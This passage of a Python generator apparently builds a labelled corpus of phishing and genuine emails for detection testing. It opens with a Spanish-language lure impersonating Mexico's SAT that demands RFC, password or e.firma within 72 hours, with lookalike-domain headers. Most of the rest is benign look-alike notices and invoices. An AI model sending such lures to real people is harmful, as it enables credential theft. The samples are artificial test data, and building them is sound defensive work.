<tr><td style="padding:20px 22px 6px;font-size:18px;font-weight:bold;color:#6f1d46">Buzón Tributario &ndash; Aviso de irregularidad fiscal</td></tr>
<tr><td style="padding:10px 22px;line-height:21px">Estimado contribuyente:<br><br>Se detectaron inconsistencias en su declaración anual del ejercicio 2023. Para evitar la <b>cancelación de sus sellos digitales</b> y la aplicación de multas, consulte el requerimiento e ingrese con su RFC y contraseña o e.firma antes de <b>72 horas</b>.</td></tr>
<tr><td style="padding:16px 22px"><a href="{link}" style="background:#235b4e;color:#fff;padding:11px 26px;text-decoration:none;font-weight:bold">Consultar requerimiento</a></td></tr>
<tr><td style="padding:16px 22px;font-size:12px;color:#777">Atentamente,<br>Servicio de Administración Tributaria</td></tr>
</table></body></html>
"""
    top = gmail_in(rcpt, t, "103.146.202.55", "mail.buzon-sat-aviso.com", frm, "pass",
                   [("buzon-sat-aviso.com", "default", "pass")],
                   ("pass", "p=NONE", "sp=NONE", "NONE", "buzon-sat-aviso.com"), "p47")
    sender = f"""\
{dkim('buzon-sat-aviso.com', 'default', 'p47', t, h='From:To:Subject:Date:Message-ID:MIME-Version:Content-Type')}
Received: from localhost (unknown [103.146.202.55])
\tby mail.buzon-sat-aviso.com (Postfix) with ESMTPSA id 5C1F0203A7
\tfor <{rcpt}>; {rfc(t, 'America/Mexico_City', seconds=-2)}
From: SAT Buzon Tributario <{frm}>
To: {rcpt}
Subject: =?UTF-8?Q?Aviso_de_irregularidad_fiscal_=E2=80=93_Buz=C3=B3n_Tributario?=
Date: {rfc(t, 'America/Mexico_City', seconds=-3)}
Message-ID: <{hexs('p47m', 30)}@buzon-sat-aviso.com>
MIME-Version: 1.0
"""
    emit("phishing", "sat-buzon-tributario-irregularidad-es", "Mexican SAT 'tax irregularity' from a newly made lookalike domain; asks for RFC, password or e.firma within 72 hours under threat of fines",
         top, sender, alt("b1_" + rnd("p47b", 32, ALNUM), text, html))


# ==========================================================================
# LEGITIMATE look-alikes


def l_google_docs_comment_genuine() -> None:
    t = when("2025-02-02 19:48:12")
    rcpt = "ben.okafor.dev@gmail.com"
    comment_text = (f"@{rcpt} can you double-check the Airbnb dates? I think check-in is Monday the 14th, not the 15th "
                    "- the host's message says 14-18 April.")
    comment_html = (f'<a href="mailto:{rcpt}" style="color:#1a73e8">@{rcpt}</a> can you double-check the Airbnb dates? '
                    "I think check-in is Monday the 14th, not the 15th - the host's message says 14-18 April.")
    top, sender, node = google_docs_comment(
        rcpt, t, "l1", "Chiara Bellini", "chiara.bellini88@gmail.com", "Lisbon trip - April 2025",
        "1fTq8ZpX2vLr0aKcY4mWn7HsD3jE9bUiG5oQ6tRyN1Vw", comment_html, comment_text,
        "Accommodation: Alfama flat (Airbnb), 15-19 April")
    emit("bulk", "google-docs-comment-mention-trip-planning", "genuine Google Docs comment notification between friends; docs.google.com links only, no money or credentials",
         top, sender, node)


def l_ms_forms_colleague() -> None:
    t = when("2025-03-04 10:12:40")
    rcpt = "yann.quere@kerlann-industries.fr"
    frm = "anais.ledu@kerlann-industries.fr"
    form = "https://forms.office.com/e/Qm4Tz8VbWn"
    text = f"""Bonjour à tous,

Pour organiser le séminaire d'équipe de juin, merci de répondre à ce court
sondage (2 minutes) sur vos disponibilités et vos préférences d'activités :

{form}

Réponses souhaitées avant le vendredi 14 mars. Les résultats seront
partagés en réunion de service.

Merci !
Anaïs

Anaïs Le Du
Chargée de communication interne
Kerlann Industries - 14 rue de la Donelière, 35000 Rennes
02 99 31 48 20
"""
    html = outlook_html(text).replace(htmllib.escape(form), f'<a href="{form}">{form}</a>')
    box = f"PR1P264MB{digits('l2b', 4)}.FRAP264.PROD.OUTLOOK.COM"
    sender = f"""\
{m365_internal(rcpt, t, 'l2')}From: =?iso-8859-1?Q?Ana=EFs_Le_Du?= <{frm}>
To: Equipe Rennes <equipe-rennes@kerlann-industries.fr>
Subject: =?iso-8859-1?Q?Sondage_:_s=E9minaire_d'=E9quipe_de_juin_2025?=
{m365_meta('l2', "Sondage : séminaire d'équipe de juin 2025", 'fr-FR')}Date: {rfc(t, seconds=-1)}
Message-ID: <{box.split('.')[0]}{rnd('l2m', 22, UPALNUM)}@{box}>
MIME-Version: 1.0
"""
    emit("clean", "sondage-seminaire-microsoft-forms-collegue-fr", "internal message from a colleague (same tenant, AuthAs Internal) sharing a Microsoft Forms survey; no credential request",
         "", sender, alt(b_outlook("l2a"), text, html), m365_internal_bottom(t, "l2", box, frm))


def l_booking_hotel_genuine() -> None:
    t = when("2024-06-03 14:26:51")
    rcpt = "sarah.lindqvist91@gmail.com"
    body_text = """Dear Sarah,

Thank you for choosing Casa do Rio. Our reception is open from 08:00 to
23:00. If you expect to arrive later, please reply with your estimated
arrival time and we will send you the code of the key box.

Parking: public garage Infante (Rua de Sao Joao), about 15 EUR per day.
The city tax of 2 EUR per person per night is paid at check-in.

See you soon!
Ines - Reception, Casa do Rio Boutique Hotel"""
    body_html = ("Dear Sarah,<br><br>Thank you for choosing Casa do Rio. Our reception is open from 08:00 to 23:00. "
                 "If you expect to arrive later, please reply with your estimated arrival time and we will send you the "
                 "code of the key box.<br><br>Parking: public garage Infante (Rua de São João), about 15&nbsp;EUR per day. "
                 "The city tax of 2&nbsp;EUR per person per night is paid at check-in.<br><br>See you soon!<br>"
                 "Inês &ndash; Reception, Casa do Rio Boutique Hotel")
    top, sender, node = booking_message(rcpt, t, "l3", "Casa do Rio Boutique Hotel", "2290418", "4912037718",
                                        body_text, body_html, "We've received a message from Casa do Rio Boutique Hotel")
    emit("bulk", "booking-com-hotel-message-arrival-time", "a hotel's real message relayed by Booking.com (auth passes): arrival time, parking, city tax; only booking.com reply links, no payment request",
         top, sender, node)


def l_supplier_thread_invoice() -> None:
    t = when("2025-03-12 14:05:33")
    rcpt = "nolwenn.berthou@kerlann-industries.fr"
    frm = "h.maas@vandervelde-packaging.nl"
    data = pdf_page([
        T(50, 790, 16, "Van der Velde Packaging B.V.", bold=True),
        T(50, 774, 9, "Ringbaan-Oost 212, 5013 CD Tilburg - KvK 17044218 - BTW NL805512334B01", (0.35, 0.35, 0.35)),
        T(400, 790, 16, "INVOICE", bold=True),
        T(400, 772, 9, "No. VDV-2025-01184"),
        T(400, 760, 9, "Date: 12-03-2025"),
        T(400, 748, 9, "Due: 11-04-2025 (30 days)"),
        T(50, 720, 10, "Kerlann Industries SAS - 14 rue de la Doneliere - 35000 Rennes - France"),
        T(50, 706, 10, "VAT: FR42 512 447 389 - Your PO: 4500229910"),
        T(50, 670, 10, "Item             Description                         Qty        Unit      Amount", bold=True),
        T(50, 652, 10, "VT-600-K         Corrugated tray 600x400, kraft       9,600      0.412     3,955.20"),
        T(50, 636, 10, "PAL-EUR          Euro pallet (returnable)                12      9.50        114.00"),
        T(50, 606, 10, "Net amount EUR 4,069.20 - VAT reverse charged (art. 196 Directive 2006/112/EC)"),
        T(50, 588, 11, "Total due EUR 4,069.20", bold=True),
        T(50, 550, 9, "Payment: ABN AMRO Bank N.V. - IBAN NL32 ABNA 0553 8812 47 - BIC ABNANL2A"),
        T(50, 536, 9, "Please quote the invoice number with your payment."),
    ], title="Invoice VDV-2025-01184", producer="Exact Online", created="D:20250312140100+01'00'")
    quoted = quote_outlook([
        ("Nolwenn Berthou", rcpt, "Tuesday, March 11, 2025 9:30 AM",
         "Hi Hendrik,\n\nThanks for the order confirmation. Could you send the invoice once the goods\nhave left, so "
         "we can book it this month?\n\nBest regards,\nNolwenn",
         "Hendrik Maas <h.maas@vandervelde-packaging.nl>", "RE: PO 4500229910 - order confirmation"),
    ])
    top_text = """Hi Nolwenn,

The goods were loaded this morning (CMR 2025-TB-0417, ETA Rennes Friday).
Please find attached our invoice VDV-2025-01184. Payment terms are 30 days,
to our usual ABN AMRO account.

Kind regards,
Hendrik Maas
Sales Support | Van der Velde Packaging B.V.
+31 13 744 21 90
"""
    text = top_text + "\n" + quoted
    html = outlook_html(text, "EN-US")
    out1, mid = m365_out("l4", t, "vandervelde-packaging.nl", region="EURP193", host="AS8P193MB")
    top, bottom = m365_in(rcpt, t, "40.107.22.96", "EUR05-AM6-obe.outbound.protection.outlook.com", frm, "pass",
                          ("vandervelde-packaging.nl", "pass"), ("pass", "none"), "vandervelde-packaging.nl",
                          ("pass", "100"), "l4", ctry="NL", lang="en",
                          ptr="mail-am6eur05on2096.outbound.protection.outlook.com")
    prev = "<PR1P264MB" + rnd("l4r0", 22, UPALNUM) + "@PR1P264MB3310.FRAP264.PROD.OUTLOOK.COM>"
    sender = f"""\
{out1}From: Hendrik Maas <{frm}>
To: Nolwenn Berthou <{rcpt}>
Subject: RE: PO 4500229910 - order confirmation
{m365_meta('l4', 'PO 4500229910 - order confirmation', 'en-US', attach=True, index='AQHbkl' + rnd('l4ti', 30) + '==')}Date: {rfc(t, 'Europe/Amsterdam', seconds=-3)}
Message-ID: {mid}
References: {prev}
In-Reply-To: {prev}
MIME-Version: 1.0
"""
    emit("clean", "supplier-thread-reply-invoice-pdf", "supplier's genuine reply in a PO thread (auth passes) with its invoice PDF; the usual bank account, no link",
         top, sender, mixed(b_outlook("l4b", 4), alt(b_outlook("l4a"), text, html),
                            att("application/pdf", "Invoice_VDV-2025-01184.pdf", data)), bottom)


def l_bank_change_letter_phone_back() -> None:
    t = when("2024-09-16 09:02:47")
    rcpt = "sandrine.legoff@kerlann-industries.fr"
    frm = "a.tanguy@transports-lemeur.fr"
    data = pdf_page([
        T(50, 790, 16, "TRANSPORTS LE MEUR SAS", bold=True),
        T(50, 774, 9, "ZA de Lanvian - 29470 Plougastel-Daoulas - SIRET 389 774 120 00025 - Tel. 02 98 44 17 60", (0.35, 0.35, 0.35)),
        T(330, 730, 10, "Kerlann Industries SAS"),
        T(330, 716, 10, "Service comptabilite fournisseurs"),
        T(330, 702, 10, "14 rue de la Doneliere, 35000 Rennes"),
        T(330, 672, 10, "Plougastel, le 13 septembre 2024"),
        T(50, 640, 11, "Objet : changement de domiciliation bancaire", bold=True),
        T(50, 612, 10, "Madame, Monsieur,"),
        T(50, 594, 10, "Nous vous informons qu'a compter du 1er octobre 2024, notre compte courant est transfere"),
        T(50, 580, 10, "au Credit Mutuel de Bretagne (agence de Brest Saint-Marc)."),
        T(50, 558, 10, "Nouvelles coordonnees : IBAN FR76 1558 9297 1400 0512 3380 147 - BIC CMBRFR2BARK"),
        T(50, 536, 10, "Les factures emises jusqu'au 30 septembre restent payables sur notre compte actuel."),
        T(50, 514, 10, "Conformement a vos procedures, merci de confirmer ce changement par telephone aupres de"),
        T(50, 500, 10, "notre service comptable au 02 98 44 17 60 (numero de nos factures) avant de modifier vos fichiers."),
        T(50, 470, 10, "Nous vous prions d'agreer, Madame, Monsieur, nos salutations distinguees."),
        T(50, 430, 10, "Yves Le Meur, President"),
        T(50, 380, 9, "Piece jointe : RIB Credit Mutuel de Bretagne", (0.35, 0.35, 0.35)),
    ], title="Changement de domiciliation bancaire", producer="Microsoft Word pour Microsoft 365",
        author="Armelle Tanguy", created="D:20240913163300+02'00'")
    text = """Bonjour Madame Le Goff,

Vous trouverez ci-joint notre courrier signé annonçant le changement de
domiciliation bancaire de Transports Le Meur au 1er octobre 2024.

Les factures émises jusqu'au 30 septembre restent payables sur notre compte
actuel. Conformément à votre procédure fournisseurs, je vous remercie de
confirmer ce changement par téléphone auprès de notre service comptable au
02 98 44 17 60 (le numéro habituel figurant sur nos factures) avant toute
modification. Nous ne vous demanderons jamais de changer nos coordonnées
par simple e-mail.

Je reste à votre disposition,

Bien cordialement,

Armelle Tanguy
Comptabilité - Transports Le Meur
02 98 44 17 60
"""
    out1, mid = m365_out("l5", t, "transports-lemeur.fr", region="FRAP264", host="PAZP264MB")
    top, bottom = m365_in(rcpt, t, "40.107.162.57", "FRA01-MR2-obe.outbound.protection.outlook.com", frm, "pass",
                          ("transports-lemeur.fr", "pass"), ("pass", "none"), "transports-lemeur.fr", ("pass", "100"), "l5",
                          ctry="FR", lang="fr", ptr="mail-mr2fra01on2057.outbound.protection.outlook.com")
    sender = f"""\
{out1}From: Armelle Tanguy <{frm}>
To: "sandrine.legoff@kerlann-industries.fr" <{rcpt}>
Subject: Changement de domiciliation bancaire - Transports Le Meur
{m365_meta('l5', 'Changement de domiciliation bancaire - Transports Le Meur', 'fr-FR', attach=True)}Date: {rfc(t, 'Europe/Paris', seconds=-3)}
Message-ID: {mid}
MIME-Version: 1.0
"""
    emit("clean", "supplier-bank-change-letter-call-back-instruction-fr", "known carrier's signed bank-change letter from its own M365 tenant (auth passes): French bank, change dated ahead, asks to confirm by phone on the usual number, no link, no urgency",
         top, sender, mixed(b_outlook("l5b", 4), alt(b_outlook("l5a"), text, outlook_html(text)),
                            att("application/pdf", "Courrier_changement_domiciliation_TransportsLeMeur.pdf", data)), bottom)


def l_calendly_confirmation() -> None:
    t = when("2024-10-03 15:41:09")
    rcpt = "gaelle.riou@kerlann-industries.fr"
    meet = "https://meet.google.com/wcx-pqvr-zfa"
    uid = guid("l6uid")
    ics = ics_fold(f"""BEGIN:VCALENDAR
VERSION:2.0
PRODID:-//Calendly//EN
METHOD:REQUEST
BEGIN:VEVENT
UID:{uid}
DTSTAMP:20241003T154109Z
DTSTART:20241008T080000Z
DTEND:20241008T083000Z
SUMMARY:Kerlann x Routeo - Demo (Lucas Fabre and Gaelle Riou)
ORGANIZER;CN=Lucas Fabre:mailto:lucas.fabre@routeo.io
ATTENDEE;CN=Gaelle Riou;ROLE=REQ-PARTICIPANT;PARTSTAT=ACCEPTED:mailto:{rcpt}
LOCATION:{meet}
DESCRIPTION:Event Name: Kerlann x Routeo - Demo\\n\\nLocation: This is a Google Meet web conference. {meet}\\n\\nNeed to make changes to this event?\\nCancel: https://calendly.com/cancellations/{uid}\\nReschedule: https://calendly.com/reschedulings/{uid}\\n\\nPowered by Calendly.com
STATUS:CONFIRMED
SEQUENCE:0
END:VEVENT
END:VCALENDAR
""")
    mf = f"bounces+{digits('l6mf', 7)}-{hexs('l6mf2', 4)}-{rcpt.replace('@', '=')}@em.calendly.com"
    top, bottom = m365_in(rcpt, t, "149.72.210.35", "o22.em.calendly.com", mf, "pass",
                          ("calendly.com", "pass"), ("pass", "none"), "calendly.com", ("pass", "100"), "l6",
                          ctry="US", lang="en", bcl=1)
    text = f"""Hi Gaelle Riou,

A new event has been scheduled.

Event Type: Kerlann x Routeo - Demo
Invitee: Gaelle Riou
Invitee Email: {rcpt}
Event Date/Time: 10:00am - Tuesday, 8 October 2024 (Central European Time)
Location: This is a Google Meet web conference. {meet}

Need to make changes to this event?
Cancel: https://calendly.com/cancellations/{uid}
Reschedule: https://calendly.com/reschedulings/{uid}

Powered by Calendly.com
"""
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head>
<body style="margin:0;background:#f0f3f8;font-family:Helvetica,Arial,sans-serif;color:#1a1a1a">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:28px 0">
<table width="560" cellpadding="0" cellspacing="0" style="background:#fff;border-radius:8px">
<tr><td style="padding:26px 32px 8px;font-size:15px">Hi Gaelle Riou,</td></tr>
<tr><td style="padding:0 32px 14px;font-size:15px">A new event has been scheduled.</td></tr>
<tr><td style="padding:0 32px;font-size:14px;line-height:22px"><b>Event Type:</b><br>Kerlann x Routeo - Demo<br><br><b>Invitee:</b><br>Gaelle Riou<br><br><b>Invitee Email:</b><br><a href="mailto:{rcpt}" style="color:#006bff">{rcpt}</a><br><br><b>Event Date/Time:</b><br>10:00am - Tuesday, 8 October 2024 (Central European Time)<br><br><b>Location:</b><br>This is a Google Meet web conference. <a href="{meet}" style="color:#006bff">Join now</a></td></tr>
<tr><td style="padding:22px 32px"><a href="https://calendly.com/cancellations/{uid}" style="color:#006bff">Cancel</a> &middot; <a href="https://calendly.com/reschedulings/{uid}" style="color:#006bff">Reschedule</a></td></tr>
<tr><td style="padding:14px 32px 24px;font-size:12px;color:#6b7280;border-top:1px solid #e5e7eb">Powered by <a href="https://calendly.com/?utm_campaign=sign_up&amp;utm_medium=email&amp;utm_source=invitee_notification" style="color:#6b7280">Calendly.com</a></td></tr>
</table></td></tr></table></body></html>
"""
    sender = f"""\
{dkim('calendly.com', 's1', 'l6', t, h='content-type:from:mime-version:subject:to:cc:content-type:from:subject:to')}
Received: by recvd-7d6c74b9f4-mz9kx with SMTP id recvd-7d6c74b9f4-mz9kx-1-66FEBB55-4
\t2024-10-03 15:41:09.412907133 +0000 UTC m=+1991230.116212338
Received: from calendly.com (unknown)
\tby geopod-ismtpd-8 (SG) with ESMTP
\tid {rnd('l6sg', 22, ALNUM)}
\tfor <{rcpt}>;
\tThu, 03 Oct 2024 15:41:09.301 +0000 (UTC)
Date: Thu, 03 Oct 2024 15:41:09 +0000 (UTC)
From: Calendly <notifications@calendly.com>
Reply-To: Lucas Fabre <lucas.fabre@routeo.io>
To: Gaelle Riou <{rcpt}>
Message-ID: <66febb55{hexs('l6mid', 16)}_{digits('l6mid2', 6)}@calendly-mailer.mail>
Subject: =?UTF-8?Q?Confirmed:_Kerlann_x_Routeo_-_Demo_with_Lucas_Fabre_on_Tuesday,_8_October_2024?=
Mime-Version: 1.0
X-SG-EID: u001.{rnd('l6eid', 100)}
X-Entity-ID: u001.{rnd('l6ent', 22)}==
"""
    node = mixed("--==_mimepart_" + hexs("l6b", 12) + "_" + digits("l6b2", 6),
                 alt("--==_mimepart_" + hexs("l6a", 12) + "_" + digits("l6a2", 6), text, html),
                 Leaf("text/calendar", ics.encode(), "base64", '; charset=UTF-8; method=REQUEST; name="invite.ics"',
                      'attachment; filename="invite.ics"'))
    emit("bulk", "calendly-demo-confirmation-ics", "Calendly booking confirmation (SendGrid, auth passes) with its .ics; Google Meet and calendly.com links only",
         top, sender, node, bottom)


def l_docusign_vendor() -> None:
    t = when("2024-12-10 13:34:02")
    rcpt = "mathieu.prigent@kerlann-industries.fr"
    a, acct, er = guid("l7a"), guid("l7acct"), guid("l7er")
    link = f"https://eu.docusign.net/Signing/EmailStart.aspx?a={a}&etti=24&acct={acct}&er={er}"
    code = hexs("l7code", 32).upper()
    top, bottom = m365_in(rcpt, t, "185.84.137.22", "mailfra1.eu.docusign.net", "dse@eumail.docusign.net", "pass",
                          ("eumail.docusign.net", "pass"), ("pass", "none"), "eumail.docusign.net", ("pass", "100"), "l7",
                          ctry="DE", lang="fr", bcl=1)
    text = f"""Loïc Even vous a envoyé un document à examiner et à signer.

EXAMINER LE DOCUMENT: {link}

Loïc Even
loic.even@armor-levage.fr

Bonjour Monsieur Prigent,

Comme convenu lors de notre rendez-vous du 5 décembre, voici le contrat de
maintenance 2025 des ponts roulants et nacelles du site de Rennes pour
signature.

Cordialement,
Loïc Even - Armor Levage Services

Ne partagez pas cet e-mail
Cet e-mail contient un lien sécurisé vers Docusign. Veuillez ne pas
partager cet e-mail, ce lien ou ce code d'accès avec d'autres personnes.

Autre méthode de signature
Rendez-vous sur docusign.com, cliquez sur 'Accéder aux documents' et saisissez le code de sécurité :
{code}

À propos de Docusign
Signez vos documents électroniquement en quelques minutes. C'est sûr.
"""
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head>
<body style="margin:0;background:#eaeaea;font-family:Helvetica,Arial,sans-serif">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px 0">
<table width="640" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td style="padding:22px 24px"><img src="https://eu.docusign.net/Signing/Images/email/Email_Logo.png" width="116" alt="Docusign"></td></tr>
<tr><td style="background:#1e4ca1;padding:28px 24px;text-align:center;color:#fff;font-size:16px"><img src="https://eu.docusign.net/member/Images/email/docInvite-white.png" width="75" alt=""><br><br>Loïc Even vous a envoyé un document à examiner et à signer.<br><br><a href="{link}" style="background:#ffc423;color:#333;padding:12px 24px;border-radius:2px;text-decoration:none;font-weight:bold;font-size:14px">EXAMINER LE DOCUMENT</a></td></tr>
<tr><td style="padding:24px;font-size:15px;color:#333;line-height:21px"><b>Loïc Even</b><br><a href="mailto:loic.even@armor-levage.fr" style="color:#2463d1">loic.even@armor-levage.fr</a><br><br>Bonjour Monsieur Prigent,<br><br>Comme convenu lors de notre rendez-vous du 5 décembre, voici le contrat de maintenance 2025 des ponts roulants et nacelles du site de Rennes pour signature.<br><br>Cordialement,<br>Loïc Even - Armor Levage Services</td></tr>
<tr><td style="padding:24px;background:#eaeaea;font-size:11px;color:#666;line-height:16px"><b>Ne partagez pas cet e-mail</b><br>Cet e-mail contient un lien sécurisé vers Docusign. Veuillez ne pas partager cet e-mail, ce lien ou ce code d'accès avec d'autres personnes.<br><br><b>Autre méthode de signature</b><br>Rendez-vous sur docusign.com, cliquez sur 'Accéder aux documents' et saisissez le code de sécurité : {code}<br><br><b>À propos de Docusign</b><br>Signez vos documents électroniquement en quelques minutes. C'est sûr.</td></tr>
</table></td></tr></table></body></html>
"""
    sender = f"""\
{dkim('eumail.docusign.net', 'eu', 'l7', t, h='To:From:Reply-To:Subject:Date:Message-ID:MIME-Version:Content-Type')}
Received: from docusign.net (10.176.2.{digits('l7o', 2)}) by mailfra1.eu.docusign.net id {hexs('l7id', 12)}; {rfc(t, seconds=-1)}
To: Mathieu Prigent <{rcpt}>
From: =?utf-8?Q?Lo=C3=AFc_Even_via_Docusign?= <dse@eumail.docusign.net>
Reply-To: =?utf-8?Q?Lo=C3=AFc_Even?= <loic.even@armor-levage.fr>
Subject: =?utf-8?Q?Veuillez_signer_avec_Docusign_:_Contrat_de_maintenance_2025_-_Kerla?=
 =?utf-8?Q?nn_Industries_Rennes?=
Date: {rfc(t, seconds=-2)}
Message-ID: <{hexs('l7m', 32)}@docusign.net>
MIME-Version: 1.0
X-DocuSign-Envelope-Id: {guid('l7env')}
"""
    emit("clean", "docusign-maintenance-contract-vendor-genuine-fr", "genuine Docusign envelope from eumail.docusign.net (auth passes) sent by a known lifting-equipment vendor; docusign.net links and access code only",
         top, sender, alt("----=_Part_" + digits("l7b", 6) + "_" + digits("l7b2", 9) + ".1733837642000", text, html), bottom)


def l_quickbooks_genuine() -> None:
    t = when("2024-05-02 21:15:40")
    rcpt = "daniel.whitford82@outlook.com"
    link = "https://connect.intuit.com/portal/app/CommerceNetwork/view/scs-v1-" + hexs("l8l", 64) + "?locale=EN_US&cta=viewinvoicenow"
    top, bottom = m365_in(rcpt, t, "206.108.40.19", "mail-in19.notification.intuit.com", "quickbooks@notification.intuit.com",
                          "pass", ("notification.intuit.com", "pass"), ("pass", "none"), "notification.intuit.com",
                          ("pass", "100"), "l8", ctry="US", lang="en", consumer=True, europe=False, bcl=1)
    text = f"""Hartley Landscaping LLC

INVOICE 1047 DETAILS
Due 05/16/2024
$640.00

Dear Daniel Whitford,

Here's your invoice! We appreciate your prompt payment.

Spring cleanup (beds, edging, debris haul-away) - $420.00
Hardwood mulch, 4 cu yd installed - $220.00

Thanks for your business! See you in June for the first mow.

Review and pay: {link}

Hartley Landscaping LLC
(978) 555-0143
office@hartleylandscaping.com

Powered by QuickBooks
© 2024 Intuit Inc. All rights reserved. Privacy | Security | Terms of Service
"""
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head>
<body style="margin:0;background:#eceef1;font-family:Avenir Next,Helvetica,Arial,sans-serif;color:#393a3d">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px 0">
<table width="560" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td style="padding:24px 32px;font-size:20px;font-weight:bold">Hartley Landscaping LLC</td></tr>
<tr><td align="center" style="padding:10px 32px;background:#f4f5f8"><div style="font-size:12px;letter-spacing:1px;color:#6b6c72">INVOICE 1047 DETAILS</div><div style="font-size:13px;color:#6b6c72">Due 05/16/2024</div><div style="font-size:34px;font-weight:bold;padding:6px 0">$640.00</div>
<a href="{link}" style="display:inline-block;background:#2ca01c;color:#fff;padding:11px 36px;border-radius:4px;text-decoration:none;font-weight:bold;margin:8px 0 14px">Review and pay</a></td></tr>
<tr><td style="padding:22px 32px;font-size:14px;line-height:21px">Dear Daniel Whitford,<br><br>Here's your invoice! We appreciate your prompt payment.<br><br>Spring cleanup (beds, edging, debris haul-away) &ndash; $420.00<br>Hardwood mulch, 4 cu yd installed &ndash; $220.00<br><br>Thanks for your business! See you in June for the first mow.<br><br>Hartley Landscaping LLC<br>(978) 555-0143<br>office@hartleylandscaping.com</td></tr>
<tr><td style="padding:18px 32px;font-size:11px;color:#8d9096;border-top:1px solid #e3e5e8">Powered by <b>QuickBooks</b><br>&copy; 2024 Intuit Inc. All rights reserved. <a href="https://www.intuit.com/privacy/" style="color:#8d9096">Privacy</a> | <a href="https://security.intuit.com/" style="color:#8d9096">Security</a> | <a href="https://quickbooks.intuit.com/legal/" style="color:#8d9096">Terms of Service</a></td></tr>
</table></td></tr></table></body></html>
"""
    sender = f"""\
{dkim('notification.intuit.com', 's2048', 'l8', t, h='Date:From:Reply-To:To:Message-ID:Subject:MIME-Version:Content-Type')}
Received: from sbgqbo-mta-{digits('l8h', 2)}.ie.intuit.net (unknown [10.133.40.{digits('l8o', 2)}])
\tby mail-in19.notification.intuit.com (Postfix) with ESMTP id 4VVGb90Kxqz6Jd
\tfor <{rcpt}>; {rfc(t, 'America/Los_Angeles', seconds=-1)}
Date: {rfc(t, 'America/Los_Angeles', seconds=-2)}
From: Hartley Landscaping LLC <quickbooks@notification.intuit.com>
Reply-To: office@hartleylandscaping.com
To: {rcpt}
Message-ID: <{digits('l8m', 9)}.{digits('l8m2', 6)}.{int(t.timestamp())}{digits('l8m3', 3)}@sbgqbo-mta-{digits('l8h', 2)}>
Subject: Invoice 1047 from Hartley Landscaping LLC
MIME-Version: 1.0
X-Intuit-Product: QBO
"""
    emit("bulk", "quickbooks-invoice-landscaping-genuine", "genuine QuickBooks invoice from the customer's landscaper (auth passes): itemised work, Reply-To on the business's own domain, no phone-to-cancel story",
         top, sender, alt("----=_Part_" + digits("l8b", 7) + "_" + digits("l8b2", 9) + ".1714684540123", text, html), bottom)


def l_kraken_new_device() -> None:
    t = when("2024-09-25 06:41:18")
    rcpt = "sarah.lindqvist91@gmail.com"
    mf = f"bounces+{digits('l9mf', 7)}-{hexs('l9mf2', 4)}-sarah.lindqvist91=gmail.com@em.kraken.com"
    top = gmail_in(rcpt, t, "149.72.142.19", "o17.em.kraken.com", mf, "pass",
                   [("kraken.com", "s1", "pass")], ("pass", "p=REJECT", "sp=REJECT", "NONE", "kraken.com"), "l9")
    text = """Kraken

New device sign-in

We noticed a sign-in to your Kraken account from a device we haven't seen
before.

Device: Chrome 129 on Windows
Location: Stockholm, Sweden (approximate)
IP address: 83.250.41.17
Time: September 25, 2024 06:40 UTC

If this was you, no action is needed.

If this wasn't you, lock your account right away from the Kraken app or at
https://www.kraken.com/sign-in, then contact support through
https://support.kraken.com.

Kraken will never ask for your password, 2FA codes or recovery phrase by
e-mail, phone or chat.

Payward, Inc. · 106 E Lincolnway Ste 300-22 · Cheyenne, WY 82001
"""
    html = """<!DOCTYPE html><html><head><meta charset="utf-8"></head>
<body style="margin:0;background:#f7f7fb;font-family:'Kraken Plex Sans',Helvetica,Arial,sans-serif;color:#101114">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:28px 0">
<table width="560" cellpadding="0" cellspacing="0" style="background:#fff;border-radius:12px">
<tr><td style="padding:28px 36px 8px"><span style="color:#7132f5;font-size:24px;font-weight:bold">kraken</span></td></tr>
<tr><td style="padding:8px 36px;font-size:22px;font-weight:bold">New device sign-in</td></tr>
<tr><td style="padding:8px 36px;font-size:15px;line-height:22px">We noticed a sign-in to your Kraken account from a device we haven't seen before.</td></tr>
<tr><td style="padding:8px 36px"><table cellpadding="6" style="font-size:14px;background:#f7f7fb;border-radius:8px;width:100%"><tr><td style="color:#686b82">Device</td><td>Chrome 129 on Windows</td></tr><tr><td style="color:#686b82">Location</td><td>Stockholm, Sweden (approximate)</td></tr><tr><td style="color:#686b82">IP address</td><td>83.250.41.17</td></tr><tr><td style="color:#686b82">Time</td><td>September 25, 2024 06:40 UTC</td></tr></table></td></tr>
<tr><td style="padding:14px 36px;font-size:15px;line-height:22px">If this was you, no action is needed.<br><br>If this wasn't you, lock your account right away from the Kraken app or at <a href="https://www.kraken.com/sign-in" style="color:#7132f5">kraken.com</a>, then contact <a href="https://support.kraken.com" style="color:#7132f5">Kraken Support</a>.</td></tr>
<tr><td style="padding:14px 36px 28px;font-size:12px;color:#686b82;border-top:1px solid #ececf2">Kraken will never ask for your password, 2FA codes or recovery phrase by e-mail, phone or chat.<br><br>Payward, Inc. &middot; 106 E Lincolnway Ste 300-22 &middot; Cheyenne, WY 82001</td></tr>
</table></td></tr></table></body></html>
"""
    sender = f"""\
{dkim('kraken.com', 's1', 'l9', t, h='content-type:from:mime-version:subject:to:cc:content-type:from:subject:to')}
Received: by recvd-5f7c8f9b77-q2vbn with SMTP id recvd-5f7c8f9b77-q2vbn-1-66F3B0FE-9
\t2024-09-25 06:41:18.244187331 +0000 UTC m=+1401152.290122004
Received: from kraken.com (unknown)
\tby geopod-ismtpd-31 (SG) with ESMTP
\tid {rnd('l9sg', 22, ALNUM)}
\tfor <{rcpt}>;
\tWed, 25 Sep 2024 06:41:18.121 +0000 (UTC)
Date: Wed, 25 Sep 2024 06:41:18 +0000 (UTC)
From: Kraken <noreply@kraken.com>
To: {rcpt}
Message-ID: <{rnd('l9sg', 22, ALNUM)}@geopod-ismtpd-31>
Subject: New device sign-in to your Kraken account
Mime-Version: 1.0
X-SG-EID: u001.{rnd('l9eid', 100)}
X-Entity-ID: u001.{rnd('l9ent', 22)}==
"""
    emit("bulk", "kraken-new-device-signin-notice", "genuine crypto-exchange security notice (auth passes for kraken.com): device details, only kraken.com links, says it never asks for recovery phrases",
